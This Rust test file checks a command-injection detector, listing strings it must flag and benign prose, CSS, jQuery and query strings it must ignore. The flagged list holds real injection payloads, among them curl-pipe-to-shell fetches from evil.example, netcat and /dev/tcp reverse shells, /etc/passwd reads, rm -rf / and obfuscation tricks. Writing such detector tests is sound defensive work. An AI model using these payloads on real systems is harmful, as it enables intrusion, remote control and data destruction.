use crate::detect::check::{finds, is_certain_of, is_linear_in, is_not_certain_of, is_quiet_about};
use crate::seclang::ast::OperatorKind::DetectCommand;

#[test]
fn finds_commands_where_a_shell_looks_for_them() {
    is_certain_of(
        DetectCommand,
        &[
            ";id", "; id", "|id", "| whoami", "&& whoami", "|| whoami", "127.0.0.1;id", "127.0.0.1 | id", "127.0.0.1; cat /etc/passwd", "127.0.0.1 && cat /etc/passwd", "8.8.8.8|cat /etc/passwd", "1;ls -la", "x; ls -la /", "foo; wget http://evil.example/x.sh", "a; curl http://evil.example/x | sh", "x && curl -s http://evil.example | bash", "|ls", ";ls", "& dir c:\\", "&whoami",
            "$(id)", "$(whoami)", "`id`", "`whoami`", "$(cat /etc/passwd)", "`cat /etc/passwd`", "a$(id)b", "a`id`b", "\";id;\"", "';id;'", "'; cat /etc/passwd #", "\"; ls -la; \"", "$(sleep 5)", "`sleep 5`", "; sleep 5", "| sleep 10", "|| sleep 10 ||", "& ping -n 10 127.0.0.1 &", "; ping -c 3 127.0.0.1", "x|ping -c 5 evil.example", "127.0.0.1\nid -a", "127.0.0.1\ncat /etc/passwd", "127.0.0.1\n/usr/bin/id",
            ";c''at /etc/passwd", ";c\"\"at /etc/passwd", ";c\\at /etc/passwd", "; w'h'o'a'm'i", "; who$@ami", "| w^h^o^a^m^i", ";cat${IFS}/etc/passwd", ";cat$IFS/etc/passwd", ";cat${IFS}$9/etc/passwd", "cat${IFS}/etc/passwd", "{cat,/etc/passwd}", ";{cat,/etc/passwd}", ";/bin/cat /etc/passwd", ";/b?n/c?t /etc/passwd", "/b?n/c?t /e?c/p?sswd", ";/???/??t /???/p??s??", "; /bin/ls", ";/usr/bin/id", "cat /etc/passwd", "cat<>/etc/passwd", ";cat</etc/passwd", "wget http://evil.example/x -O /tmp/x",
            "; nc -e /bin/sh 10.0.0.1 4444", "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "; python -c 'import os'", "|python3 -c \"import os\"", "; rm -rf /", "; powershell -enc SQBFAFgA", "| powershell -nop -c iex", "& cmd /c whoami", "; nslookup evil.example", "; net user hacker x /add", "() { :; }; echo vulnerable", "() { :;}; /bin/bash -c 'id'", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "%COMSPEC:~0,1%", "; echo $(id)", "| tee /tmp/x", "; uname -a", ";uname", "; chmod 777 x.sh", "x; PATH=/tmp ls -la",
        ],
    );
    finds(DetectCommand, &["ls -la", "; echo hello", "curl -X POST https://example.com", "foo;id", "intro\nhere it comes:\ncat /etc/passwd | grep root\n"]);
}

#[test]
fn leaves_prose_lists_and_parameters_alone() {
    is_quiet_about(
        DetectCommand,
        &[
            "I nap; sleep 5 hours", "Tom & Cat", "cat | dog", "cat;dog;mouse", "cats & dogs; more to come", "name;date;id", "sort|date|name", "skills: php; python; ruby", "java|php|ruby", "php;python;bash", "a&id=5&sort=name&date=2024&type=x", "?x=1&id=5&host=a", "&lt;b&gt; &amp; &cat;", "find | fix", "; find the way home", "| less is more", "date; 5 pm", "id", "who & why", "find what you need; sort it out", "head & tail", "users;groups",
            "line one\ncat\ndog\n", "todo:\nping bob\ncall ann\nkill the process\n", "$100; top 10", "see `id` column", "use the `date` field", "$(document).ready(f)", "$('#id').click()", "$(this).find('a')", "if (a && b || c) { return; }", "a && set(x)", "; time", "x; type: y", "read; write; execute", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101", "text/plain; charset=utf-8", "a=b; path=/; expires=0", "width: 10px; top: 5px; cut: 3", "{cat, dog}", "{\"cat\":1,\"id\":2}", "{id,name}", "kill time; make love; test more", "Please print | Bitte drucken", "a > b; c < d", "time & date", "host | port", "make & model", "/what?is/this", "/a?b=c/d", "open; closed", "top; 10",
            "Jack & Jill\nwent up\nthe hill", "cp; mv", "5 & 6", "AT&T & T-Mobile", "who's who; what's what", "print & cut & fold; join us", "(cat)", "Which? more; less!", "Mount Everest & more", "date\ttime\nid\tname",
        ],
    );
    is_not_certain_of(
        DetectCommand,
        &["use `ls -la` to list files", "#!/bin/bash\nset -e\ncd /tmp\nls -la\ncurl -s https://example.com/install.sh | bash\n", "To install, run:\n\n    npm install\n    cat /etc/hosts\n", "ls -la", "curl -X POST https://example.com/api", "VERSION is set like this in the script of the project: V=$(git describe --tags)", "foo; echo hello"],
    );
}

#[test]
fn takes_linear_time() {
    is_linear_in(DetectCommand, &[";", ";cat ", "|", "`", "$(", "{", "\n", ";c''", ";''", ";$@", ";/?/", "; cat -a -b", ";cat $IFS", "&cat;", ";A=1 ", "() {", ":~", ";\\c"]);
}
